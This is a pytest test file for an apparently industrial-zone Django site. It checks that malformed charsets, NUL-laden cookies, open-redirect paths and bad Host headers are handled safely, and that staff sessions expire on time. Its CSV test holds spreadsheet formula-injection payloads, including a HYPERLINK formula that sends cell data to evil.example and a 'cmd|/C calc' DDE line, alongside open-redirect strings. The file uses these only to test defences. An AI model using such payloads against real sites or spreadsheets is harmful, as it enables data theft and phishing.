"""The edges of the site: odd requests, addresses that try to lead elsewhere, what robots and
spreadsheets see, what the logs say, and how long a staff session lasts."""

import csv
import io
import json
import logging
import subprocess
import sys
from datetime import timedelta
from decimal import Decimal
from html.parser import HTMLParser
from http import HTTPStatus
from urllib.parse import unquote_to_bytes, urlencode, urlsplit
from wsgiref.util import setup_testing_defaults

import pytest
from django.conf import settings
from django.contrib.sessions.models import Session
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from promotion.middleware import readable_charset, readable_content_type
from promotion.models import Enquiry, KeyFigure
from promotion.spreadsheets import spreadsheet_safe

from .factories import enquiry_form_data

pytestmark = pytest.mark.django_db

FORM = "application/x-www-form-urlencoded"
SITE = "https://zone.example.cn"


@pytest.fixture(autouse=True)
def edge_settings(settings):
    settings.SITE_URL = SITE
    settings.ENQUIRY_NOTIFY_EMAILS = ["promotion@zone.example.cn"]
    settings.ENQUIRY_RATE_LIMIT = settings.ENQUIRY_INVALID_RATE_LIMIT = "1000/h"
    return settings


def lenient_client() -> Client:
    """A client that answers like the live site: an exception in a view is a 500 page, not raised."""
    return Client(raise_request_exception=False)


def multipart(name: str, value: bytes) -> bytes:
    return b'--b\r\nContent-Disposition: form-data; name="' + name.encode() + b'"\r\n\r\n' + value + b"\r\n--b--\r\n"


# --- 1. No request body or header causes a 500 ---------------------------------------------


@pytest.mark.parametrize(
    ("charset", "name"),
    [("iso-8859-1", "François Müller"), ("windows-1252", "Zoë Ångström"), ("gbk", "李伟"), ("gb18030", "王芳")],
)
def test_an_enquiry_sent_in_an_older_charset_is_read_in_that_charset(client, charset, name):
    data = enquiry_form_data(name=name, email=f"{charset}@example.com", space_needed="30,000 m2")
    body = urlencode(data, encoding=charset).encode("ascii")
    response = client.generic("POST", reverse("promotion:enquiry"), body, content_type=f"{FORM}; charset={charset}")
    assert response.status_code == HTTPStatus.FOUND, response.content.decode()[:500]
    assert Enquiry.objects.get(email=f"{charset}@example.com").name == name


def test_the_admin_login_reads_an_iso_8859_1_form(client, django_user_model):
    django_user_model.objects.create_superuser("müller", "m@zone.example.cn", "grüne-wiese-1957")
    body = urlencode({"username": "müller", "password": "grüne-wiese-1957"}, encoding="iso-8859-1").encode()
    response = client.generic("POST", reverse("admin:login"), body, content_type=f"{FORM}; charset=iso-8859-1")
    assert response.status_code == HTTPStatus.FOUND
    assert response["Location"] == reverse("admin:index")


@pytest.mark.parametrize("charset", ["x-nonsense", "base64", "rot13", "punycode", "utf-16", "utf-7", "undefined", ""])
@pytest.mark.parametrize("path", ["/en/enquiry/", "/admin/login/", "/zh-hans/enquiry/"])
def test_an_unreadable_charset_gets_the_friendly_400_page(path, charset):
    response = lenient_client().generic("POST", path, b"name=caf%E9", content_type=f"{FORM}; charset={charset}")
    assert response.status_code == HTTPStatus.BAD_REQUEST
    body = response.content.decode()
    assert 'class="site-header"' in body and "Content-Security-Policy" in response.headers
    if path.startswith("/zh-hans/"):
        assert '<html lang="zh-Hans">' in body
    else:
        assert "This request could not be read" in body


@pytest.mark.parametrize(
    ("method", "path", "body", "content_type"),
    [
        ("POST", "/en/enquiry/", b"name=\xff\xfe%FF%FE%00&email=%C0%AF", FORM),
        ("POST", "/en/enquiry/", b"name=%FF%00&email=\x00", f"{FORM}; charset=utf-8"),
        ("POST", "/admin/login/", b"username=%FF%00&password=%00\xff", FORM),
        ("POST", "/admin/login/", b"username=%E9&password=%E9", f"{FORM}; charset=latin-1"),
        ("POST", "/i18n/setlang/", b"language=%FF%00&next=%2F%2Fevil.example%2F", FORM),
        ("POST", "/i18n/setlang/", b"language=zh-hans&next=%E9", f"{FORM}; charset=iso-8859-1"),
        ("POST", "/en/enquiry/", multipart("name", b"caf\xe9"), "multipart/form-data; boundary=b; charset=iso-8859-1"),
        ("POST", "/en/enquiry/", multipart("na\xffme", b"\xff\x00"), "multipart/form-data; boundary=b"),
        ("POST", "/en/enquiry/", multipart("name", b"caf\xe9"), "multipart/form-data; boundary=b; charset=base64"),
        ("POST", "/en/enquiry/", multipart("name", b"caf\xe9"), "multipart/form-data; boundary=b; charset=punycode"),
        ("POST", "/en/enquiry/", b"\x00\xff" * 100, "application/json; charset=x-nonsense"),
        ("GET", "/en/enterprises/?page=%FF&park=%00&industry=%C0%AF", b"", ""),
        ("GET", "/en/%FF%00/", b"", ""),
    ],
)
def test_undecodable_bodies_and_charsets_never_cause_a_server_error(method, path, body, content_type):
    kwargs = {"content_type": content_type} if content_type else {}
    response = lenient_client().generic(method, path, body, **kwargs)
    assert response.status_code < HTTPStatus.INTERNAL_SERVER_ERROR


@pytest.mark.parametrize(
    "headers",
    [
        # cookies.SimpleCookie unquotes "\000" to NUL: PostgreSQL refuses it in a session lookup.
        {"HTTP_COOKIE": 'sessionid="\\000\\000\\000\\000\\000\\000\\000\\000\\000"'},
        {"HTTP_COOKIE": 'sessionid="abc\\000defghij"; csrftoken="\\000"; django_language="\\000zh"'},
        {"HTTP_COOKIE": "sessionid=\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8; django_language=\xff"},
        {"HTTP_ACCEPT_LANGUAGE": "\xff\x00;q=x, zh-\x00;q=2"},
        {"HTTP_REFERER": "\xff\x00", "HTTP_USER_AGENT": "\x00\xff", "HTTP_X_FORWARDED_FOR": "\x00, \xff"},
    ],
)
@pytest.mark.parametrize("path", ["/en/", "/admin/", "/admin/login/", "/en/enquiry/"])
def test_undecodable_cookies_and_headers_never_cause_a_server_error(path, headers):
    assert lenient_client().get(path, **headers).status_code < HTTPStatus.INTERNAL_SERVER_ERROR


@pytest.fixture
def wsgi_application():
    """The site as the WSGI server calls it, wrapped as zone_site/wsgi.py is meant to wrap it; the
    database connection is kept open for the test's transaction, as the test client keeps it."""
    from django.core.handlers.wsgi import WSGIHandler
    from django.core.signals import request_finished, request_started
    from django.db import close_old_connections

    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        yield readable_content_type(WSGIHandler())
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)


def call_wsgi(application, path: str, query: str, content_type: str, body: bytes) -> tuple[str, str]:
    environ = {
        "REQUEST_METHOD": "POST" if body else "GET",
        "PATH_INFO": path,
        "QUERY_STRING": query,
        "CONTENT_TYPE": content_type,
        "CONTENT_LENGTH": str(len(body)),
        "wsgi.input": io.BytesIO(body),
    }
    setup_testing_defaults(environ)
    answer = {}
    response = application(environ, lambda status, headers: answer.update(status=status))
    try:
        return answer["status"], b"".join(response).decode()
    finally:
        response.close()


@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain; charset=base64",  # with a query string, Django decodes it while building the request
        "text/plain; charset=undefined",
        "text/plain; title*=zz''%41",  # an RFC 2231 parameter in an encoding that does not exist
        "application/x-www-form-urlencoded; charset*=utf-8''utf-8%00",  # a charset holding NUL
    ],
)
def test_no_content_type_fails_the_request_before_the_middleware(wsgi_application, content_type):
    status, body = call_wsgi(wsgi_application, "/en/search/", "q=steel", content_type, b"q=steel")
    assert status.startswith("400 ") and "This request could not be read" in body


def test_a_readable_content_type_passes_the_wsgi_wrapper_untouched(wsgi_application):
    status, body = call_wsgi(wsgi_application, "/en/search/", "q=steel", "text/plain; charset=gbk", b"")
    assert status.startswith("200 ") and "steel" in body.lower()


def test_a_cookie_holding_a_nul_character_is_dropped_before_the_session_sees_it(client):
    response = client.get("/admin/login/", HTTP_COOKIE='sessionid="abc\\000defghij"')
    assert response.status_code == HTTPStatus.OK
    assert response.wsgi_request.session.session_key is None


def test_only_charsets_that_write_ascii_as_ascii_are_readable():
    assert readable_charset("UTF-8") == "utf-8"
    assert readable_charset("ISO-8859-1") == "iso8859-1"
    assert readable_charset("GBK") == "gbk"
    for name in ["x-nonsense", "base64", "rot13", "punycode", "idna", "utf-16", "utf-7", "unicode_escape", "utf-8\x00"]:
        assert readable_charset(name) is None, name


# --- 2. No link leaves the site ----------------------------------------------------------------


class AddressParser(HTMLParser):
    """Every address a page gives: links, resources, form actions, og:url/og:image, JSON-LD urls."""

    ATTRIBUTES = {"href", "src", "action", "poster", "data"}

    def __init__(self):
        super().__init__()
        self.addresses: list[str] = []
        self._json_ld = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.addresses += [value for name, value in attrs.items() if name in self.ATTRIBUTES and value]
        if attrs.get("srcset"):
            self.addresses += [part.split()[0] for part in attrs["srcset"].split(",") if part.strip()]
        if tag == "meta" and (attrs.get("property") or "").startswith(("og:url", "og:image")):
            self.addresses.append(attrs.get("content", ""))
        self._json_ld = tag == "script" and attrs.get("type") == "application/ld+json"

    def handle_data(self, data):
        if self._json_ld:
            self.addresses += [value for key, value in walk(json.loads(data)) if key == "url"]
            self._json_ld = False


def walk(data):
    if isinstance(data, dict):
        for key, value in data.items():
            yield key, value
            yield from walk(value)
    elif isinstance(data, list):
        for value in data:
            yield from walk(value)


def off_site(addresses: list[str]) -> list[str]:
    """Addresses a browser would resolve outside SITE_URL's origin (seen from a page on it)."""
    origin = urlsplit(SITE)
    outside = []
    for address in addresses:
        parts = urlsplit(address.replace("\\", "/"))
        if parts.scheme in ("data", "mailto", "tel") or (not parts.scheme and not parts.netloc):
            continue
        if (parts.scheme, parts.netloc) != (origin.scheme, origin.netloc):
            outside.append(address)
    return outside


def get_as_sent(client, address: str, **extra):
    """GET an address exactly as a server passes it on: the test client would read "//evil.example/"
    as a host name, a WSGI server gives it to Django as the path."""
    path, _, query = address.partition("?")
    return client.get("/", PATH_INFO=unquote_to_bytes(path).decode("iso-8859-1"), QUERY_STRING=query, **extra)


def addresses_of(response) -> list[str]:
    parser = AddressParser()
    parser.feed(response.content.decode())
    return parser.addresses


@pytest.mark.parametrize(
    "path",
    [
        "//evil.example/",
        "/\\evil.example/",
        "/%2F%2Fevil.example/",
        "/%5Cevil.example/",
        "/en//evil.example/",
        "/zh-hans//evil.example/about/",
        "/en/parks/no-such-park/",
        "/en/search/?q=//evil.example/&next=https://evil.example/",
    ],
)
def test_no_address_on_a_page_leaves_the_site_whatever_path_was_asked(client, path):
    response = get_as_sent(client, path, HTTP_ACCEPT_LANGUAGE="en")
    addresses = addresses_of(response)
    assert addresses and not off_site(addresses), off_site(addresses)
    for address in addresses:
        parts = urlsplit(address.replace("\\", "/"))
        assert "evil.example" not in parts.netloc + parts.path, address


@pytest.mark.parametrize("path", ["//evil.example/", "/en//evil.example/", "/en/parks/no-such-park/"])
def test_a_404_page_links_to_the_home_page_of_each_language(client, path):
    response = get_as_sent(client, path, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == HTTPStatus.NOT_FOUND
    body = response.content.decode()
    assert f'<link rel="canonical" href="{SITE}/en/">' in body
    assert f'hreflang="en" href="{SITE}/en/"' in body and f'hreflang="zh-Hans" href="{SITE}/zh-hans/"' in body
    assert f'<meta property="og:url" content="{SITE}/en/">' in body
    assert 'class="language-switch" href="/zh-hans/"' in body


def test_a_page_links_to_itself_in_each_language_on_the_site_origin(client):
    response = client.get("/zh-hans/parks/electronics-park/", HTTP_HOST="localhost")
    body = response.content.decode()
    assert f'<link rel="canonical" href="{SITE}/zh-hans/parks/electronics-park/">' in body
    assert f'hreflang="en" href="{SITE}/en/parks/electronics-park/"' in body
    assert f'<meta property="og:url" content="{SITE}/zh-hans/parks/electronics-park/">' in body
    assert 'class="language-switch" href="/en/parks/electronics-park/"' in body
    assert not off_site(addresses_of(response))
    home = addresses_of(client.get("/en/", HTTP_HOST="localhost"))
    assert f"{SITE}/en/" in home and not off_site(home)  # the JSON-LD url among them


# --- 3. robots.txt never names the admin ---------------------------------------------------


def test_robots_txt_does_not_name_the_admin_and_admin_pages_say_noindex(client, staff_client):
    body = client.get("/robots.txt").content.decode()
    assert "admin" not in body.lower() and settings.ADMIN_URL not in body
    assert Client().get(reverse("admin:login"))["X-Robots-Tag"] == "noindex, nofollow"
    assert staff_client.get(reverse("admin:index"))["X-Robots-Tag"] == "noindex, nofollow"
    assert "X-Robots-Tag" not in client.get("/en/").headers


# --- 4. The key-figures CSV neutralises formula cells --------------------------------------


def test_key_figures_csv_neutralises_formulas_and_keeps_negative_numbers(client):
    evil = {
        "label": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
        "note": "+1+cmd|' /C calc'!A0",
        "source": "@SUM(A1:A9)",
    }
    KeyFigure.objects.filter(slug="tax-revenue-2015").update(**evil, growth_percent=Decimal("-3.5"))
    KeyFigure.objects.filter(slug="planned-area").update(label="-2+3", note="\tindented", source="\rreturn")
    response = client.get(reverse("promotion:key-figures-csv"))
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    tax, area = rows["tax-revenue-2015"], rows["planned-area"]
    assert {key: tax[key] for key in evil} == {key: "'" + value for key, value in evil.items()}
    assert (area["label"], area["note"], area["source"]) == ("'-2+3", "'\tindented", "'\rreturn")
    assert tax["growth_percent"] == "-3.5" and tax["value"] == "1040000000" and area["value"] == "27.05"
    assert not any(
        value.startswith(("=", "+", "@", "\t", "\r")) or (value.startswith("-") and key != "growth_percent")
        for row in rows.values()
        for key, value in row.items()
    )


def test_spreadsheet_safe_leaves_numbers_and_plain_text_alone():
    assert spreadsheet_safe(Decimal("-3.5")) == "-3.5"
    assert spreadsheet_safe(Decimal("1.04E+9")) == "1040000000"
    assert spreadsheet_safe(-12) == "-12"
    assert spreadsheet_safe("-12") == "'-12"  # text: whoever typed it meant text
    assert spreadsheet_safe("Tax revenue") == "Tax revenue"
    assert spreadsheet_safe(None) == ""


# --- 5. A bad Host header logs one line ----------------------------------------------------


def test_a_bad_host_header_gets_the_400_page_and_one_warning_line(client, caplog):
    with caplog.at_level(logging.INFO):
        response = client.get("/en/", HTTP_HOST="evil.example")
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert 'class="site-header"' in response.content.decode()
    assert not off_site(addresses_of(response))
    loud = [record for record in caplog.records if record.levelno >= logging.WARNING]
    assert [(r.name, r.levelname, r.exc_info) for r in loud] == [("django.security.DisallowedHost", "WARNING", None)]
    plain = settings.LOGGING["formatters"]["plain"]
    line = logging.Formatter(plain["format"], style=plain["style"]).format(loud[0])
    assert "\n" not in line and "Traceback" not in line and "evil.example" in line
    assert len(caplog.text.strip().splitlines()) == 1


# --- 6. Staff sessions end after a working day of inactivity -------------------------------


def test_a_staff_session_lasts_a_working_day_from_the_last_admin_request(staff_client, django_user_model):
    assert settings.SESSION_COOKIE_AGE == 9 * 3600
    key = staff_client.session.session_key
    admin_index = reverse("admin:index")
    assert "sessionid" not in staff_client.get(admin_index).cookies  # just logged in: nothing to renew yet

    # Eight hours later (last renewed at the login), the session has one hour left.
    eight_hours_ago = timezone.now() - timedelta(hours=8)
    django_user_model.objects.filter(username="editor").update(last_login=eight_hours_ago)
    Session.objects.filter(session_key=key).update(expire_date=timezone.now() + timedelta(hours=1))
    assert "sessionid" not in staff_client.get("/en/").cookies  # public pages do not renew it
    response = staff_client.get(admin_index)
    assert response.status_code == HTTPStatus.OK
    assert response.cookies["sessionid"]["max-age"] == 9 * 3600
    expires = Session.objects.get(session_key=key).expire_date
    assert timedelta(hours=8, minutes=59) < expires - timezone.now() <= timedelta(hours=9)
    assert "sessionid" not in staff_client.get(admin_index).cookies  # renewed a moment ago


def test_an_idle_staff_session_has_ended(staff_client):
    Session.objects.filter(session_key=staff_client.session.session_key).update(expire_date=timezone.now())
    response = staff_client.get(reverse("admin:index"))
    assert response.status_code == HTTPStatus.FOUND and response["Location"].startswith(reverse("admin:login"))


def test_the_session_length_follows_the_environment(tmp_path):
    code = "from zone_site import settings; print(settings.SESSION_COOKIE_AGE)"
    env = {"DJANGO_SESSION_HOURS": "2.5", "DJANGO_VAR_DIR": str(tmp_path), "PATH": "/usr/bin:/bin"}
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=settings.BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        check=True,
    )
    assert result.stdout.strip() == str(int(2.5 * 3600))


def test_logging_in_with_an_unsafe_next_lands_on_the_admin_index(client, django_user_model):
    django_user_model.objects.create_superuser("chief", "chief@zone.example.cn", "a-long-test-password")
    login = reverse("admin:login") + "?next=https://evil.example/"
    credentials = {"username": "chief", "password": "a-long-test-password", "next": "https://evil.example/"}
    response = client.post(login, credentials, follow=True)
    assert response.redirect_chain[-1][0] == reverse("admin:index")
    assert response.status_code == HTTPStatus.OK
